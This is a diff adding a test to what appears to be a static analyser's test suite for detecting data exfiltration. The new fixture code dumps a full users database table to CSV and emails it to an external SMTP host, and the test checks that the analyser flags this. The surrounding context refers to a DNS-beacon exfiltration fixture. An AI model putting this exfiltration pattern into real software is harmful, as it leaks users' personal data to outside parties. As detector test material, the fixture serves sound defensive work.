@@ -213,3 +213,27 @@ def main():
 def test_the_machines_identity_handed_to_a_helper_that_builds_a_dns_name_is_reported_at_the_call() -> None:
     assert [op.detail("source") for op in at(BEACON, 8, "py.exfil-dns")] == ["machine identity"]
     assert at(BEACON, 9) == []
+
+
+FILLED = '''
+import smtplib
+from email.message import EmailMessage
+
+import pandas as pd
+
+def mail(body):
+    msg = EmailMessage()
+    msg["To"] = "ops@example-mail.net"
+    msg.set_content(body)
+    with smtplib.SMTP("smtp.example-mail.net") as smtp:
+        smtp.send_message(msg)
+
+def main():
+    mail(pd.read_sql("SELECT * FROM users", "postgresql://db/app").to_csv())
+    mail("nightly load finished")
+'''
+
+
+def test_data_put_into_a_message_by_a_helper_is_named_at_the_call() -> None:
+    assert [op.detail("source") for op in at(FILLED, 15, "py.exfil-request")] == ["query result"]
+    assert at(FILLED, 16) == []
